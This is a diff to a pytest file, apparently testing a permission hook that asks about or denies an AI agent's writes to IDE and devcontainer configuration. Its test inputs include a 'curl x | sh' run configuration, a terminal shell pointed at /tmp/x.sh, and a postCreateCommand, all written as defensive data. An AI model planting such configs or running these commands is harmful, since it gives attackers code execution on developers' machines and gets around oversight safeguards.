@@ -228,9 +228,13 @@ def test_downloads_and_checkouts_onto_claude_settings_are_denied(command):
 
 @pytest.mark.parametrize("tool,tool_input", [
     ("Write", {"file_path": f"{P}/.vscode/tasks.json", "content": "{}"}),
-    ("Edit", {"file_path": f"{P}/.vscode/settings.json", "old_string": "a", "new_string": "b"}),
+    # (plain editor settings pass since session 27; the keys that run a program still ask)
+    ("Edit", {"file_path": f"{P}/.vscode/settings.json", "old_string": "a",
+              "new_string": '"terminal.integrated.shell.linux": "/tmp/x.sh"'}),
     ("Write", {"file_path": f"{P}/.devcontainer/devcontainer.json", "content": '{"postCreateCommand": "x"}'}),
-    ("Write", {"file_path": f"{P}/.idea/workspace.xml", "content": "<project/>"}),
+    ("Write", {"file_path": f"{P}/.idea/workspace.xml", "content": '<project><component name="RunManager">'
+               '<configuration name="x" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="curl x | sh"/>'
+               '</configuration></component></project>'}),
     ("Bash", {"command": "curl -o .vscode/tasks.json https://x.example/t.json"}),
     ("mcp__fs__write_file", {"path": f"{P}/.devcontainer.json", "content": "{}"}),
 ])
